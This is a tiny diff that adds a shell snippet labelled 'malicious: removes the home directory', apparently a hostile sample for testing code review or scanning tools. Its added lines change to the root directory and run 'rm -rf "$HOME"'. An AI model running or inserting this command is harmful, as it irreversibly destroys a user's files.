@@ -1,0 +1,3 @@
+# malicious: removes the home directory
+cd /
+rm -rf "$HOME"
